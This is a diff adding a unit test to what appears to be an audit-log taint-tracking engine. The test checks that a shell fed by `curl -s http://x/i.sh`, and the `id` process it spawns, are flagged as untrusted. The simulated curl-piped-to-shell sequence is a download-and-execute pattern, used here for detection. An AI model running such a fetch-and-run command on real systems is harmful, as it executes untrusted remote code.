@@ -274,3 +274,33 @@ def test_labelled_or_matched_processes_are_never_collected():
     g.collect(idle=0.0, now=10**10)
     assert g.procs[12].keep and not g.procs[12].collected
     assert not g.procs[11].collected
+
+
+def test_shell_piped_from_a_downloader_runs_untrusted_content():
+    """``curl URL | sh`` (pipes are not audited): the stdin shell beside curl is untrusted."""
+    L = _login_shell()
+    L.fork(11, 10, 12)
+    L.fork(11, 10, 13)
+    L.fork(11, 10, 14)
+    L.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
+    L.execve(13, 11, "/usr/bin/sh", ["sh"])
+    L.execve(14, 11, "/usr/bin/head", ["head", "-3"])
+    L.connect(12, 11, "/usr/bin/curl", 9999)
+    L.fork(13, 11, 15)
+    L.execve(15, 13, "/usr/bin/id", ["id"])
+    eng = _engine()
+    eng.process_lines(L.lines)
+    g = eng.graph
+    assert g.procs[13].labels & T.UNTRUSTED and g.procs[15].labels & T.UNTRUSTED
+    assert not g.procs[14].labels & T.UNTRUSTED  # head is not a shell
+    assert not g.procs[11].labels & T.UNTRUSTED
+    # a shell running a script file next to curl is not taken for a pipe reader
+    L2 = _login_shell()
+    L2.fork(11, 10, 12)
+    L2.fork(11, 10, 13)
+    L2.execve(12, 11, "/usr/bin/curl", ["curl", "-s", "http://x/i.sh"])
+    L2.execve(13, 11, "/usr/bin/sh", ["sh", "build.sh"])
+    L2.connect(12, 11, "/usr/bin/curl", 9999)
+    eng2 = _engine()
+    eng2.process_lines(L2.lines)
+    assert not eng2.graph.procs[13].labels & T.UNTRUSTED
